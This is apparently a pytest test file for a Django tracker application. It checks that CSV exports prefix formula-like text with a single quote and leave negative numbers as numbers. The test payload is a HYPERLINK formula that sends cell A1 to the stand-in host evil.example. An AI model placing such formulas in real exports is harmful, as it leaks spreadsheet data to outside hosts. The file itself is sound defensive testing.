"""The API's `?format=csv` never writes text a spreadsheet would run as a formula.

Text typed into the tracker (an objective, a rating commentary, a recommendation, a response, a
meeting's title, a KPI value's note, a risk's mitigations) that begins `=`, `+`, `-`, `@`, tab or
carriage return is written with a single quote in front; numbers, negative ones included, stay
numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal

import pytest

from actions.models import Action, Theme
from governance.models import Meeting, Risk
from kpis.models import IndicatorValue
from recommendations.models import Recommendation, Response
from send_tracker.accounts.models import Organisation

from . import world

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def _action_objective(owner: Organisation, text: str) -> tuple[str, str]:
    action = world.actions(owner, 1)[0]
    Action.objects.filter(pk=action.pk).update(description=text)
    return "/api/v1/actions/", "objective"


def _action_commentary(owner: Organisation, text: str) -> tuple[str, str]:
    action = world.actions(owner, 1)[0]
    action.brag, action.brag_commentary = "amber", text
    action.save()
    return f"/api/v1/actions/{action.pk}/history/", "commentary"


def _recommendation_text(owner: Organisation, text: str) -> tuple[str, str]:
    recommendation = world.recommendations(owner, 1)[0]
    Recommendation.objects.filter(pk=recommendation.pk).update(text=text)
    return "/api/v1/recommendations/", "text"


def _response_proposed_action(owner: Organisation, text: str) -> tuple[str, str]:
    response = world.responses(owner, 1)[0]
    Response.objects.filter(pk=response.pk).update(proposed_action=text)
    return "/api/v1/responses/", "proposed_action"


def _response_reasons(owner: Organisation, text: str) -> tuple[str, str]:
    response = world.responses(owner, 1)[0]
    Response.objects.filter(pk=response.pk).update(reasons=text)
    return "/api/v1/responses/", "reasons"


def _meeting_title(owner: Organisation, text: str) -> tuple[str, str]:
    meeting = world.meetings(owner, 1)[0]
    Meeting.objects.filter(pk=meeting.pk).update(title=text)
    return "/api/v1/meetings/", "title"


def _kpi_note(owner: Organisation, text: str) -> tuple[str, str]:
    value = world.kpi_values(owner, 1)[0]
    IndicatorValue.objects.filter(pk=value.pk).update(note=text)
    return "/api/v1/kpi-values/", "note"


def _risk_mitigations(owner: Organisation, text: str) -> tuple[str, str]:
    risk = world.risks(owner, 1)[0]
    Risk.objects.filter(pk=risk.pk).update(mitigations=text)
    return "/api/v1/risks/", "mitigations"


FIELDS: list[Callable[[Organisation, str], tuple[str, str]]] = [
    _action_objective,
    _action_commentary,
    _recommendation_text,
    _response_proposed_action,
    _response_reasons,
    _meeting_title,
    _kpi_note,
    _risk_mitigations,
]


def csv_rows(client, path: str) -> list[dict[str, str]]:
    response = client.get(path, {"format": "csv"})
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
@pytest.mark.parametrize("field", FIELDS, ids=lambda f: f.__name__.lstrip("_"))
def test_text_beginning_a_formula_character_is_written_as_text(field, start, council, key_client):
    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'

    path, column = field(council, text)

    cells = [row[column] for row in csv_rows(key_client(council), path)]
    assert "'" + text in cells
    assert not any(cell.startswith(tuple(FORMULA_STARTS)) for cell in cells)


def test_numbers_stay_numbers_even_when_negative(council, key_client):
    value = world.kpi_values(council, 1)[0]
    IndicatorValue.objects.filter(pk=value.pk).update(value=Decimal("-3"), numerator=Decimal("-1.5"))

    [row] = csv_rows(key_client(council), "/api/v1/kpi-values/")

    assert (row["value"], row["numerator"], row["denominator"]) == ("-3.00", "-1.50", "")


def test_a_list_beginning_with_a_formula_is_one_neutralised_cell(council, key_client):
    action = world.actions(council, 1)[0]
    action.themes.add(
        Theme.objects.create(plan=action.plan, name="=1+1"), Theme.objects.create(plan=action.plan, name="SEND")
    )

    [row] = csv_rows(key_client(council), "/api/v1/actions/")

    assert row["themes"] == "'=1+1; SEND"
